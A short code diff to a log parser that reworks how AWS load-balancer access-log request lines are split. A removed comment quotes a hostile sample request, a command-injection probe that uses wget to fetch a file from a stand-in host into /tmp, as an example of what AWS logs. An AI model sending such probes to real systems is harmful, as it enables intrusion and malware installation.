@@ -31,16 +31,11 @@ const ALB = new RegExp(
 // sent "request" "user agent" cipher protocol`.
 const ELB = new RegExp(String.raw`^(\d{4}-\d{2}-\d{2}T\S+Z) \S+ (\S+) \S+ \S+ \S+ \S+ (\d{3}|-) (?:\d{3}|-) (?:\d+|-) (?:\d+|-) ${QUOTED} ${QUOTED}`);
 
-// AWS logs the request as the client sent it: a URI with a space in it stays whole (ALB's
-// `SpaceInUri` classification, `"GET http://host:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"`).
-const LB_REQUEST = /^([A-Z][A-Z0-9_-]*) (\S.*?)(?: HTTP\/[\d.]+)?$/;
-
 function readLoadBalancer(text: string, ctx: ParseContext): AccessRecord | undefined {
   const m = ALB.exec(text) ?? ELB.exec(text);
   if (m === null) return undefined;
-  const line = m[4]!.replace(/\\"/g, '"').trim();
-  const whole = LB_REQUEST.exec(line);
-  const request = whole === null ? undefined : { method: whole[1]!, target: whole[2]! };
+  // AWS logs the request as the client sent it: a URI with spaces stays whole (splitRequestLine).
+  const request = splitRequestLine(m[4]!.replace(/\\"/g, '"'));
   return record(m[1]!, ctx, {
     source: clientAddress(m[2]!),
     method: request?.method,
